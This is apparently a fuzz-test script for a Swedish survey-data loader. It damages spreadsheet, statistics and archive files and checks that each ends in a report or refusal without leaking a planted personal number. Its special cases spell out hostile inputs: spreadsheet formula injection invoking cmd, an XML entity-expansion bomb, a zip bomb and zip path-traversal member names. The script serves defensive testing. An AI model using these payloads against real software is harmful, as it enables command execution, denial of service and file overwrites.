"""A fuzzer over files: each must end in a report or a refusal, within bounds of time and memory, and repeat no value.

    python tests/fuzz/fuzz_files.py --seconds 300 --seed 1

Each case has a number and is the same whenever it is drawn anew with the same seed: ``--only 17`` runs one case.
Workers are processes with a bound on their memory; one that dies or does not answer in time is a violation as well.
"""

from __future__ import annotations

import argparse
import io
import json
import math
import multiprocessing
import os
import random
import resource
import shutil
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "loaders"))

import pandas as pd
import pyreadstat
from deliveries import Style, csv_bytes, tables, texts
from spreadsheets import ods, xls

import bipstudy as bip
from bipstudy import schema
from bipstudy.texts import BipstudyError

SECRET = ("19850709-9805", "Hemlige Karlsson")
# Of processor time for a case, and of waiting for one where the machine is busy.
CASE_SECONDS, LATE_SECONDS = 20.0, 120.0
MEMORY_MORE = 2 * 2**30
_TELL = 1_000
_ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "mac_roman", "cp850", "utf-32")


def corpus(folder):
    """Return undamaged files by name: every format, some with a value that must never be repeated."""
    frames = tables()
    forms = texts("measurements", frames["measurements"], Style())
    people = texts("participants", frames["participants"], Style())
    people[1][2], people[2][2] = SECRET
    sheets = {"Formulär": forms, "Deltagare": people, "Blad 1": [["Anteckning", SECRET[1]], [SECRET[0], "=1+1"]]}
    found = {
        "Formulär.csv": csv_bytes(forms, Style()),
        "Deltagare.csv": csv_bytes(people, Style()),
        "deltagare.txt": csv_bytes(people, Style(encoding="cp1252", delimiter="\t")),
        "uttag.xls": xls(sheets),
    }
    found["uttag.ods"] = ods(folder / "a.ods", sheets).read_bytes()
    import xlsxwriter

    with xlsxwriter.Workbook(folder / "a.xlsx") as book:
        for name, rows in sheets.items():
            sheet = book.add_worksheet(name)
            for at, row in enumerate(rows):
                sheet.write_row(at, 0, row)
        sheet.write_formula(3, 0, "=1/0", None, "#DIV/0!")
        sheet.merge_range(5, 0, 8, 2, "x")
    found["uttag.xlsx"] = (folder / "a.xlsx").read_bytes()
    plain = pd.DataFrame(people[1:], columns=people[0])
    coded = plain.assign(Kön=[1.0, 2.0, 9.0])
    labels = {"Kön": {1: "Kvinna", 2: "Man", 9: "Vet ej"}}
    coded.columns = [f"v{at}" if name != "Kön" else "Kön" for at, name in enumerate(coded.columns)]
    pyreadstat.write_sav(
        coded, folder / "a.sav", column_labels=people[0], variable_value_labels=labels, missing_ranges={"Kön": [9]}
    )
    pyreadstat.write_dta(coded, folder / "a.dta", column_labels=people[0], variable_value_labels=labels)
    plain.to_parquet(folder / "a.parquet")
    found |= {f"deltagare.{end}": (folder / f"a.{end}").read_bytes() for end in ("sav", "dta", "parquet")}
    found["leverans.zip"] = zipped({name: found[name] for name in ("Deltagare.csv", "Formulär.csv", "uttag.xls")})
    return found


def zipped(members):
    """Return an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def damaged(draw, name, content):
    """Return a file after some damage, of the kind that transfer, systems and people do."""
    body = bytearray(content)
    for _ in range(draw.randint(1, 8)):
        body = bytearray(draw.choice(DAMAGE)(draw, body, draw.randrange(len(body) + 1)))
    if name.endswith((".csv", ".txt")) and draw.random() < 0.3:
        words = bytes(body).decode(draw.choice(_ENCODINGS), "replace")
        body = bytearray(words.encode(draw.choice(_ENCODINGS), "replace"))
    if draw.random() < 0.05:
        name = Path(name).stem + draw.choice([".csv", ".xlsx", ".xls", ".ods", ".sav", ".dta", ".parquet", ".zip", ""])
    return name, bytes(body)


def _flip(draw, body, at):
    if body:
        body[at % len(body)] ^= 1 << draw.randrange(8)
    return body


def _cut(draw, body, at):
    return body[:at] if draw.random() < 0.3 else body


def _drop(draw, body, at):
    return body[:at] + body[at + draw.randint(1, 200) :]


def _insert(draw, body, at):
    return body[:at] + draw.randbytes(draw.randint(1, 40)) + body[at:]


def _swap(draw, body, at):
    other = draw.randrange(len(body) + 1)
    body[at : at + 20], body[other : other + 20] = body[other : other + 20], body[at : at + 20]
    return body


def _zeros(draw, body, at):
    return body[:at] + b"\0" * draw.randint(1, 5) + body[at:]


def _repeat(draw, body, at):
    return body[:at] + body[at : at + 300] * draw.randint(1, 30) + body[at:]


def _inside(draw, body, at):
    return _inner(draw, bytes(body)) if bytes(body[:2]) == b"PK" else _flip(draw, body, at)


DAMAGE = (_flip, _flip, _cut, _drop, _insert, _swap, _zeros, _repeat, _inside, _inside)


def _inner(draw, content):
    """Damage one part inside an archive and pack it again, so that the damage is met behind the checksums."""
    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
    except Exception:
        return content
    if not members:
        return content
    chosen = draw.choice(sorted(members))
    body = bytearray(members[chosen])
    for _ in range(draw.randint(1, 6)):
        at = draw.randrange(len(body) + 1)
        kind = draw.randrange(4)
        if kind == 0 and body:
            body[at % len(body)] ^= 1 << draw.randrange(8)
        elif kind == 1:
            del body[at : at + draw.randint(1, 100)]
        elif kind == 2:
            body[at:at] = body[at : at + 200] * 3
        else:
            digits = [place for place, byte in enumerate(body) if 48 <= byte <= 57][:5000]
            if digits:
                place = draw.choice(digits)
                body[place : place + 1] = str(draw.choice([0, 9, 65535, 999999, 2**31, 2**40])).encode()
    members[chosen] = bytes(body)
    return zipped(members)


def _bomb(draw):
    return "bomb.zip", zipped({"Deltagare.csv": b"Organisation;Deltagare\n" + b"0" * draw.choice([10**6, 3 * 10**7])})


def _nested(draw):
    inner = zipped({"Deltagare.csv": b"x;y\n1;2\n"})
    for _ in range(draw.randint(1, 5)):
        inner = zipped({"inre.zip": inner, "Handläggare.csv": b"Organisation;Handl\xc3\xa4ggare\nA;1\n"})
    return "leverans.zip", inner


def _traversal(draw):
    names = [
        "../ut.csv",
        "..\\ut.csv",
        "/tmp/bipstudy-fuzz-ut.csv",
        "C:\\ut.csv",
        "a/../../ut.csv",
        "a\0.csv",
        "." * 3000,
        "å" * 200,
    ]
    members = {draw.choice(names): b"Organisation;Deltagare\nA;1\n", "Deltagare.csv": b"Organisation;Deltagare\nA;1\n"}
    return "leverans.zip", zipped(members)


def _many_columns(draw):
    count = draw.choice([16_385, 100_000, 1_000_000])
    header = draw.choice([b"Deltagare;", b"x;", b"Enhet;"]) * count
    return "Deltagare.csv", header + b"\r\n" + b"1;" * count + b"\r\n"


def _many_rows(draw):
    line = draw.choice([b"\r\n", b";;;\r\n", b"A;1;x\r\n", b'"', b"\r", b"Summa\r\n"])
    return "Deltagare.csv", b"Organisation;Deltagare;Startade\r\n" + line * draw.choice([10_000, 60_000])


def _large(draw):
    """Return a file that is large enough to be read by column, after some damage or none."""
    lines = BASE["Formulär.csv"].splitlines(keepends=True)
    body = lines[0] + b"".join(lines[1:]) * (5 * 2**20 // sum(map(len, lines[1:])))
    return damaged(draw, "Formulär.csv", body) if draw.random() < 0.7 else ("Formulär.csv", body)


def _nul(draw):
    return "Deltagare.csv", b"Organisation;Deltagare\r\nA\0;1\r\n" * draw.randint(1, 50)


def _formula(draw):
    attack = draw.choice(
        ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1,"y")', "+1-1", "\t=1"]
    )
    return (
        "Deltagare.csv",
        f"Organisation;Deltagare;Kön;{attack}\r\n{attack};{attack};{attack};{SECRET[1]}\r\n".encode(),
    )


def _deep(draw):
    cell = draw.choice([b'r="XFD1048576"', b'r="A99999999"', b'r="ZZZZZZ1"', b'r="A0"', b'r=""', b'r="B1048576"'])
    return "uttag.xlsx", _edited("uttag.xlsx", b'r="B2"', cell)


def _wide_ods(draw):
    attribute = draw.choice(["columns", "rows"])
    many = f'<table:table-cell table:number-{attribute}-repeated="{10 ** draw.randint(3, 12)}"'.encode()
    return "uttag.ods", _edited("uttag.ods", b"<table:table-cell", many)


def _entities(draw):
    lines = b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 12))
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lol">' + lines + b"]><x>&a11;</x>"
    base = draw.choice(["uttag.xlsx", "uttag.ods"])
    part = draw.choice(["xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "content.xml"])
    with zipfile.ZipFile(io.BytesIO(BASE[base])) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return base, zipped({**members, part: bomb})


def _external(draw):
    link = b'<externalLink xmlns="x"><externalBook r:id="http://example.invalid/x"/></externalLink>'
    with zipfile.ZipFile(io.BytesIO(BASE["uttag.xlsx"])) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet2.xml"].replace(b"<v>", b"<f>'[http://example.invalid/a.xlsx]A'!A1</f><v>", 3)
    return "uttag.xlsx", zipped(
        {**members, "xl/externalLinks/externalLink1.xml": link, "xl/worksheets/sheet2.xml": sheet}
    )


def _parquet(draw):
    import pyarrow as pa
    import pyarrow.parquet as pq

    buffer = io.BytesIO()
    nested = {"Deltagare": [[1, 2], None], "Kön": [{"a": SECRET[1]}, None], "Startade": [b"\xff", b""]}
    many = {"Deltagare": pa.nulls(draw.choice([10, 10**5]))}
    pq.write_table(pa.table(draw.choice([nested, many])), buffer)
    return "participants.parquet", buffer.getvalue()


def _edited(name, old, new):
    """Return a workbook with something replaced in each part."""
    with zipfile.ZipFile(io.BytesIO(BASE[name])) as archive:
        return zipped({each: archive.read(each).replace(old, new, 2) for each in archive.namelist()})


SPECIAL = (
    _bomb,
    _nested,
    _traversal,
    _many_columns,
    _many_rows,
    _large,
    _nul,
    _formula,
    _deep,
    _wide_ods,
    _entities,
    _external,
    _parquet,
)
BASE: dict[str, bytes] = {}


def drawn(seed, number):
    """Return kind, name and content of one case."""
    draw = random.Random(f"{seed}:{number}")
    if number < len(SPECIAL) or draw.random() < 0.04:
        make = SPECIAL[number] if number < len(SPECIAL) else draw.choice(SPECIAL)
        return (make.__name__, *make(draw))
    name = draw.choice(sorted(BASE))
    return ("damage", *damaged(draw, name, BASE[name]))


def run_case(seed, number, folder):
    """Run one case; return its kind, how it ended, and what is wrong with that or None."""
    kind, name, content = drawn(seed, number)
    case = folder / "case"
    case.mkdir()
    (case / (name or "namnlös")).write_bytes(content)
    before = {path: path.stat().st_size for path in folder.rglob("*")}
    began = time.process_time()
    try:
        submission = bip.load_submission(case)
        if number % 3 == 0 or kind != "damage":
            report = bip.validate(submission)
            said, ended = report.to_json(), "report"
        else:
            said = json.dumps([[str(each), each.values] for each in submission.findings], default=str)
            ended = "loaded" if submission.sent else "refused"
        if not submission.sent and not submission.findings:
            return kind, ended, "neither data nor a finding"
        for table, frame in submission.tables.items():
            if frame.dtypes.to_dict() != schema.dtypes(table) or len(frame) != len(submission.provenance[table]):
                return kind, ended, f"table {table} is out of shape"
    except BipstudyError as error:
        said, ended = str(error), "refused"
    except BaseException:
        return kind, "raised", traceback.format_exc()
    took = time.process_time() - began
    if took > CASE_SECONDS:
        return kind, ended, f"took {took:.0f} s"
    if any(secret in said for secret in SECRET):
        return kind, ended, "repeats a value"
    if {path: path.stat().st_size for path in folder.rglob("*")} != before or os.listdir("."):
        return kind, ended, "wrote a file"
    shutil.rmtree(case)
    return kind, ended, None


def _work(seed, numbers, results, folder):
    """Run the cases of one worker."""
    folder = Path(folder)
    empty = folder.parent / f"{folder.name}-empty"
    folder.mkdir()
    empty.mkdir()
    os.chdir(empty)
    pages = int(Path("/proc/self/statm").read_text().split()[0]) if Path("/proc/self/statm").exists() else 0
    limit = pages * os.sysconf("SC_PAGE_SIZE") + MEMORY_MORE
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    for number in numbers:
        results.send((number, None))
        results.send((number, run_case(seed, number, folder)))
        shutil.rmtree(folder / "case", ignore_errors=True)


class Lane:
    """One worker: its process, the case it is at, and since when."""

    def __init__(self, seed, start, step, folder):
        context = multiprocessing.get_context("fork")
        self.seed, self.at, self.step, self.since = seed, start, step, time.monotonic()
        self.pipe, theirs = context.Pipe(duplex=False)
        work = (seed, range(start, 10**9, step), theirs, str(folder))
        self.process = context.Process(target=_work, args=work, daemon=True)
        self.process.start()
        theirs.close()

    def message(self):
        """Return what the worker says: a number and how that case ended, "died", "late", or None for nothing yet."""
        if not self.pipe.poll(0.05):
            return "late" if time.monotonic() - self.since > LATE_SECONDS else None
        try:
            number, ended = self.pipe.recv()
        except EOFError:
            return "died"
        self.at, self.since = number, time.monotonic()
        return number, ended

    def stop(self):
        """End the worker."""
        self.process.kill()
        self.process.join()


def fuzz(seed, seconds, workers=2, first=0, cases=math.inf):
    """Run cases until the time is up or there have been so many, and say now and then how many there were.

    Returns
    -------
    Counter, list
        Ends by kind of case, and (number, kind, what is wrong) of every violation.
    """
    ends, wrong = Counter(), []
    with tempfile.TemporaryDirectory() as name:
        root, until, made = Path(name), time.monotonic() + seconds, workers
        lanes = [Lane(seed, first + lane, workers, root / f"w{lane}") for lane in range(workers)]
        while lanes:
            for lane in list(lanes):
                said = lane.message()
                if said in {"died", "late"}:
                    wrong.append((lane.at, drawn(seed, lane.at)[0], f"the process {said}"))
                elif said is not None and said[1] is not None:
                    kind, ended, problem = said[1]
                    ends[kind, ended] += 1
                    if ends.total() % _TELL == 0:
                        print(f"{ends.total()} cases, {len(wrong)} violations", file=sys.stderr, flush=True)
                    wrong += [(said[0], kind, problem)] if problem else []
                over = time.monotonic() > until or ends.total() >= cases
                if said in {"died", "late"} or (over and said is not None and said[1] is not None):
                    lane.stop()
                    lanes.remove(lane)
                if said in {"died", "late"} and not over:
                    made += 1
                    lanes.append(Lane(seed, lane.at + workers, workers, root / f"w{made}"))
    return ends, wrong


def prepare():
    """Make the undamaged files and load once, so that workers share what is imported."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        BASE.update(corpus(folder))
        (folder / "Deltagare.csv").write_bytes(BASE["Deltagare.csv"])
        for ending in ("xlsx", "parquet", "sav"):
            bip.validate(bip.load_submission(folder / f"a.{ending}")).to_json()


def main():
    """Run from the command line; exit code 1 if anything was violated."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=float, default=300)
    parser.add_argument("--cases", type=float, default=math.inf, help="end sooner, after so many")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--first", type=int, default=0, help="number of the first case")
    parser.add_argument("--workers", type=int, default=min(os.cpu_count() or 1, 2))
    parser.add_argument("--only", type=int, help="run this case alone and leave its file behind")
    given = parser.parse_args()
    prepare()
    if given.only is not None:
        kind, name, content = drawn(given.seed, given.only)
        path = Path(tempfile.mkdtemp()) / "fuzz"
        path.mkdir()
        os.chdir(path.parent / "fuzz")
        folder = path.parent / "files"
        folder.mkdir()
        print(kind, name, len(content), path.parent)
        print(*run_case(given.seed, given.only, folder))
        return 0
    ends, wrong = fuzz(given.seed, given.seconds, given.workers, given.first, given.cases)
    for (kind, ended), count in sorted(ends.items()):
        print(f"{kind:16} {ended:8} {count:7}")
    for number, kind, problem in wrong:
        print(f"case {number} ({kind}): {problem}")
    print(f"{sum(ends.values())} cases with seed {given.seed}, {len(wrong)} violations")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
